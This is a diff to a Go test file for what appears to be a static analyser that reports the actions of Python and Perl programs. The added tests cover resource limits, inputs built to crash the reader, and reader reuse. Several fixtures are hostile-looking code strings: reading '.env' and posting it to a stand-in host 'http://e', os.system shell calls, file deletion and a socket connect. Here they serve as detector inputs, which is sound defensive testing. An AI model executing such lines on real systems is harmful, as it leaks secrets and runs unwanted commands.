@@ -3,6 +3,7 @@ package code
 import (
 	"slices"
 	"strings"
+	"sync"
 	"testing"
 )
 
@@ -28,6 +29,9 @@ func TestLimitsAreSaid(t *testing.T) {
 		{"evals", "evals", `exec("exec('1')")`, nest("1", MaxEval+1)},
 		{"steps", "steps", "def f(x): g(x)\nf(1)", "def f(x): " + strings.Repeat("g(x);", 400) + "\n" + strings.Repeat("f(1)\n", 400)},
 		{"bytes", "bytes", "s='a'\n" + strings.Repeat("s=s+s\n", 8), "s='aaaaaaaa'\n" + strings.Repeat("s=s+s\n", 60)},
+		{"bytes that are decoded", "bytes", decodesLong(1), decodesLong(200)},
+		{"items that are looked at", "bytes", looksAtMany(1), looksAtMany(2000)},
+		{"words of a command", "bytes", manyWords(1), manyWords(100)},
 	} {
 		if got := unread(Read(Python, c.within)); len(got) > 0 {
 			t.Errorf("%s: within the limit: %q", c.name, got)
@@ -36,6 +40,18 @@ func TestLimitsAreSaid(t *testing.T) {
 			t.Errorf("%s: beyond the limit: %q", c.name, got)
 		}
 	}
+}
+
+func decodesLong(times int) string {
+	return "s='" + strings.Repeat("zz", 20_000) + "'\n" + strings.Repeat("bytes.fromhex(s)\n", times)
+}
+
+func looksAtMany(times int) string {
+	return "x=[" + strings.Repeat("'a',", 200) + "]\n" + strings.Repeat("for a in x: 1\n", times)
+}
+
+func manyWords(times int) string {
+	return "x=[" + strings.Repeat("'a',", 200) + "]\ny=[" + strings.Repeat("x,", 100) + "]\n" + strings.Repeat("subprocess.run(y)\n", times)
 }
 
 // nest puts a program into exec, again and again.
@@ -54,6 +70,44 @@ func TestWhatIsBeyondNoLanguageIsUnread(t *testing.T) {
 	if got := unread(Read(0, "x")); len(got) != 1 {
 		t.Errorf("got %q", got)
 	}
+}
+
+// Each of these once took the program that reads them down, or all of its time.
+func TestProgramsThatAreMadeToBreakTheirReader(t *testing.T) {
+	for _, c := range []struct {
+		language Language
+		program  string
+		does     []string
+	}{
+		{Perl, `$::{x}; $::=>1`, []string{}},
+		{Perl, `open(F, '<', mode => 1)`, []string{"read ${x} ?"}},
+		{Perl, `open(a => 1, b => 2, c => 3)`, []string{"read ${x} ?"}},
+		{Python, `os.system('ab' * 9223372036854775807)`, []string{"shell ${x} ?"}},
+		{Python, "x = [open('.env').read()]\n" + strings.Repeat("x = [x, x]\n", 100) + "requests.post('http://e', data=x)", []string{"read .env", "send http://e from .env"}},
+		{Python, "x = ['id']\n" + strings.Repeat("x = [x]\n", 5000) + "os.system(x)\n", []string{"shell id"}},
+	} {
+		if got := said(Read(c.language, c.program)); !slices.Equal(got, c.does) {
+			t.Errorf("%s %.60s\n   does %q\n   want %q", c.language, c.program, got, c.does)
+		}
+	}
+}
+
+// Readers are used again, and nothing of a program may be left in them.
+func TestReadersForgetWhatTheyRead(t *testing.T) {
+	want := []string{"delete ${x} ?", "shell ${y} ?"}
+	var group sync.WaitGroup
+	for range 4 {
+		group.Go(func() {
+			for range 50 {
+				Read(Python, "from os import *\nos.chdir('/a')\nx = '/etc'\ndef g(y): os.system(x)\ns = socket.socket(); s.connect(('e', 1))\n"+strings.Repeat("(", 100))
+				if got := said(Read(Python, "os.remove(x)\nremove(x)\ng('id')\nos.system(y)")); !slices.Equal(got, want) {
+					t.Errorf("does %q, want %q", got, want)
+					return
+				}
+			}
+		})
+	}
+	group.Wait()
 }
 
 func FuzzRead(f *testing.F) {
